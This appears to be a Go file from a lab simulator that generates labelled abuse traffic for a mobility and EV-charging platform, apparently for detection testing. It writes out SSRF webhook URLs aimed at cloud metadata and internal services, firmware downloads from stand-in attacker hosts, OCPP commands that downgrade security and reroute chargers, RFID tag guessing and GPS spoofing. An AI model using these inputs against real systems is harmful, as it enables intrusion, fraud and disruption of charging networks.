package life

import (
	"fmt"
	"slices"
	"time"

	"github.com/waywarden/waywarden/lab/world"
)

func (w *life) insideHook(t time.Time, at string) {
	s := w.Of[at]
	var k *world.Walk
	switch {
	case at == "roaming":
		k = w.Machine(w.bot("hub"), s, t)
	case s.Login == s && s.Has("login"):
		k = w.Walk(w.Staff["manager"][0], s, t)
	default:
		p := w.bot("hooks")
		k = w.Guest(p.Devices[0], s, t)
		k.Who, k.Cred = p, w.Issue(s, p, t)
	}
	for _, u := range []string{"http://169.254.169.254/latest/meta-data/iam/", world.Pick(w, []string{"http://localhost:8500/v1/kv/", "http://[::1]:9200/_cat", "http://10.0.3.17:6443/api", "gopher://127.0.0.1:6379/_INFO"})} {
		k.Do("webhook", nil, f("=url", "artefact_url", u), f("=event", "", "trip.ended"))
	}
}

func (w *life) mixUp(t time.Time) {
	for range 6 + w.IntN(8) {
		a, b := w.customer(), w.customer()
		if a == b {
			continue
		}
		var k *world.Walk
		w.Marked(nil, func() { k = w.Walk(a, w.Of["app"], t.Add(w.Span(0, 600))) })
		k.Send(world.Exchange{Op: "profile", Reply: w.Answer(w.GuestOf(b, k.At, t), "profile", nil)})
	}
}

func (w *life) partnerTurns(t time.Time) {
	dev := w.bot("aggregator").Devices[0]
	s := w.Of["partner"]
	n := 0
	for i, p := range w.Staff["aggregated"] {
		if len(p.Vehicles) == 0 || n == 15 {
			continue
		}
		n++
		k := w.Guest(dev, s, t.Add(time.Duration(i)*w.Span(2, 9)))
		k.Who, k.Cred = p, w.Issue(s, p, t)
		k.Do("unlock", &p.Vehicles[0].Thing)
	}
}

func (w *life) foreignDevice(t time.Time) {
	s := w.Of["device"]
	vs := w.victims(&world.Person{}, 8)
	k := w.Guest(&world.Device{Agent: "tcu/4.2 (embedded)", Home: w.Address("home"), Script: true}, s, t)
	k.Who, k.Cred = &world.Person{Thing: world.Thing{ID: "-"}}, &world.Credential{Value: vs[0].VIN}
	for _, v := range vs[1:] {
		k.Do("drive", nil, k.At.Ident(&v.Thing), f("speed", "", 181.5), f("harsh braking", "", 40))
		w.Mark.Touch(&v.Thing)
	}
}

func (w *life) promoFarm(t time.Time) {
	dev := w.Device("rider")
	dev.Roams = false
	code := "WELCOME" + w.Letters(world.Digits, 2)
	for range 15 + w.IntN(20) {
		p := w.NewPerson("lurker")
		p.Devices = []*world.Device{dev}
		k := w.Guest(dev, w.Of["identity"], t)
		k.Who = p
		k.Send(world.Exchange{Op: "register", Args: world.Node{f("email", "email", p.Email), f("password", "", p.Password), f("name", "name_address", p.Name)}, Reply: world.Node{f("user id", "person_id", p.ID)}})
		k = w.Walk(p, w.Of["app"], k.Now.Add(time.Second))
		k.Do("promo", nil, f("code", "", code))
		t = k.Now.Add(w.Span(20, 80))
	}
}

// swarm is a crowd that orders to one place within minutes; every ride is given up when the vehicle is there.
func (w *life) swarm(t time.Time) {
	end := w.Somewhere()
	for range min(40, max(8, len(w.Pool)/3)) {
		p := w.customer()
		w.later(t.Add(w.Span(0, 420)), func(t time.Time) {
			k := w.Walk(p, w.Of["app"], t)
			near := world.Place{Lat: world.Round(end.Lat+w.Rng.NormFloat64()*0.0004, 6), Lon: world.Round(end.Lon+w.Rng.NormFloat64()*0.0004, 6)}
			r := w.NewThing("ride", k.Now)
			v := world.Pick(w, w.Pool)
			k.Send(world.Exchange{Op: "ride", Args: spots(near, w.Somewhere()), Reply: world.Node{f("ride id", "session_id", r.ID), k.At.Ident(&v.Thing), f("eta", "", 300), f("status", "", "assigned")}})
			w.later(t.Add(w.Span(600, 900)), func(t time.Time) {
				k.Now = t
				k.Enter()
				k.Do("ridecancel", r)
			})
		})
	}
}

func (w *life) spoof(t time.Time) {
	p := world.Pick(w, w.Staff["crew"])
	k := w.Walk(p, w.Of["driver"], t)
	for range 14 {
		k.Do("position", nil, f("latitude", "location", world.Round(w.City.Lat+w.Rng.NormFloat64()*1.5, 5)), f("longitude", "location", world.Round(w.City.Lon+w.Rng.NormFloat64()*1.5, 5)), f("accuracy", "", 1))
		k.Wait(10, 20)
	}
}

func (w *life) riderLookup(t time.Time) {
	k := w.Walk(world.Pick(w, w.Staff["crew"]), w.Of["driver"], t)
	for range 8 + w.IntN(10) {
		k.Do("person", &w.customer().Thing)
	}
}

// live returns public stations that are connected.
func (w *life) live(n int) []*world.Station {
	var list []*world.Station
	for i := range w.Stations {
		s := w.Stations[(i*7+3)%len(w.Stations)]
		if s.BoxOf == nil && s.Connection != "" && len(list) < n && !slices.Contains(list, s) {
			list = append(list, s)
		}
	}
	return list
}

func (w *life) duplicateSocket(t time.Time) {
	ip := w.Address("home")
	for _, s := range w.live(2 + w.IntN(4)) {
		c := "ws-" + w.Letters(world.HexDigits, 8)
		w.socket(s, t, ip, c)
		t = w.boot(s, ip, c, t.Add(time.Second), "Testbench")
		if s.Version == "1.6" {
			t = w.framesOver(s, ip, c, t, "in", "MeterValues", world.Node{f("connectorId", "", 1), f("meterValue", "", []world.Node{{f("timestamp", "", t.Format(time.RFC3339)), f("sampledValue", "", []world.Node{{f("value", "", "99999999"), f("measurand", "", "Energy.Active.Import.Register")}})}})}, world.Node{})
		}
		w.frameOut(&world.Record{Kind: "ocpp", Time: t.Add(w.Span(20, 300)), Station: s.ID, Connection: c, Version: s.Version, Client: &world.Client{IP: ip}, Event: "close"}, s)
		t = t.Add(w.Span(60, 400))
	}
}

func (w *life) tagGuessing(t time.Time) {
	s := w.live(1)[0]
	for i := range 60 + w.IntN(50) {
		status := "Invalid"
		if i%45 == 44 {
			status = "Accepted"
		}
		tag := fmt.Sprintf("04%012X", 0xA10000+i*13)
		if s.Version == "1.6" {
			t = w.frames(s, t, "in", "Authorize", world.Node{f("idTag", "", tag)}, world.Node{f("idTagInfo", "", world.Node{f("status", "", status)})})
		} else {
			t = w.frames(s, t, "in", "Authorize", world.Node{f("idToken", "", world.Node{f("idToken", "", tag), f("type", "", "ISO14443")})}, world.Node{f("idTokenInfo", "", world.Node{f("status", "", status)})})
		}
		t = t.Add(w.Span(1, 6))
	}
}

func (w *life) tagClone(t time.Time) {
	p := world.Pick(w, w.Staff["holder"])
	n, site := 0, -1
	for _, s := range w.live(40) {
		if s.Transaction != nil || s.Site == site || n == 3 {
			continue
		}
		n, site = n+1, s.Site
		c := &world.Charging{Thing: *w.NewThing("session", t), Started: t, Tag: p.Tag, By: p, Meter: 8000}
		t = w.begin(s, c, t, false).Add(w.Span(60, 200))
		w.later(t.Add(w.Span(2400, 3600)), func(t time.Time) {
			if s.Transaction == c && s.Connection != "" {
				w.finish(s, t, false)
			}
		})
	}
}

func (w *life) firmwareElsewhere(t time.Time) {
	k := w.thief2(t)
	url := world.Pick(w, []string{"http://203.0.113." + w.Letters("123456789", 2) + "/fw.bin", "ftp://dl-" + w.Letters(world.HexDigits, 5) + ".example/fw.bin", "http://169.254.169.254/fw"})
	for _, s := range w.live(4 + w.IntN(5)) {
		k.Do("firmware", &s.Thing, f("=url", "artefact_url", url))
		w.updateFirmware(s, k.Now, url)
		k.Wait(3, 12)
	}
}

// thief2 goes on with an operator's session from elsewhere.
func (w *life) thief2(t time.Time) *world.Walk {
	p := world.Pick(w, w.Staff["operator"])
	w.Marked(nil, func() { w.Walk(p, w.Of["operator"], t.Add(-10*time.Minute)).Do("stations", nil) })
	k := w.Guest(&world.Device{Agent: "Mozilla/5.0 (Windows NT 10.0; rv:115.0) Gecko/20100101 Firefox/115.0", Home: w.Address("home")}, w.Of["operator"], t)
	k.Who, k.Cred = p, p.Creds[w.Of["operator"]]
	return k
}

func (w *life) rehoming(t time.Time) {
	url := "ws://relay-" + w.Letters(world.HexDigits, 6) + ".example:8080/ocpp"
	for _, s := range w.live(4 + w.IntN(5)) {
		if s.Version == "1.6" {
			at := w.frames(s, t, "out", "ChangeConfiguration", world.Node{f("key", "", "SecurityProfile"), f("value", "", "0")}, world.Node{f("status", "", "Accepted")})
			w.frames(s, at, "out", "ChangeConfiguration", world.Node{f("key", "", "CentralSystemURL"), f("value", "", url)}, world.Node{f("status", "", "RebootRequired")})
		} else {
			w.frames(s, t, "out", "SetNetworkProfile", world.Node{f("configurationSlot", "", 1), f("connectionData", "", world.Node{f("securityProfile", "", 0), f("ocppCsmsUrl", "", url), f("ocppTransport", "", "JSON"), f("ocppVersion", "", "OCPP20"), f("messageTimeout", "", 30), f("ocppInterface", "", "Wired0")})}, world.Node{f("status", "", "Accepted")})
		}
		t = t.Add(w.Span(5, 30))
	}
}

func (w *life) profileAbuse(t time.Time) {
	for _, s := range w.live(20) {
		period := []world.Node{{f("startPeriod", "", 0), f("limit", "", 0)}}
		schedule := world.Node{f("chargingRateUnit", "", "A"), f("chargingSchedulePeriod", "", period)}
		if s.Version == "1.6" {
			w.frames(s, t, "out", "SetChargingProfile", world.Node{f("connectorId", "", 0), f("csChargingProfiles", "", world.Node{f("chargingProfileId", "", 99), f("stackLevel", "", 99), f("chargingProfilePurpose", "", "ChargePointMaxProfile"), f("chargingProfileKind", "", "Absolute"), f("chargingSchedule", "", schedule)})}, world.Node{f("status", "", "Accepted")})
		} else {
			w.frames(s, t, "out", "SetChargingProfile", world.Node{f("evseId", "", 0), f("chargingProfile", "", world.Node{f("id", "", 99), f("stackLevel", "", 99), f("chargingProfilePurpose", "", "ChargingStationMaxProfile"), f("chargingProfileKind", "", "Absolute"), f("chargingSchedule", "", []world.Node{append(world.Node{f("id", "", 1)}, schedule...)})})}, world.Node{f("status", "", "Accepted")})
		}
		t = t.Add(w.Span(0.5, 3))
	}
}

func (w *life) restartWave(t time.Time) {
	k := w.thief2(t)
	k.Pace = 0.5
	for _, s := range w.live(25) {
		k.Do("restart", &s.Thing)
		w.reset(s, k.Now)
	}
}

func (w *life) roamingToken(t time.Time) {
	p := w.bot("hub")
	if p.Creds[w.Of["roaming"]] == nil {
		w.Marked(nil, func() { w.hub(t.Add(-time.Hour)) })
	}
	k := w.Guest(&world.Device{Agent: "python-requests/2.31.0", Home: w.Address("home"), Script: true}, w.Of["roaming"], t)
	k.Who, k.Cred = p, p.Creds[w.Of["roaming"]]
	k.Do("stations", nil)
	for range 4 {
		if s := w.publicStation(); s != nil {
			w.chargeAt(k, s, "XX"+w.Letters(world.Digits, 10))
		}
	}
}
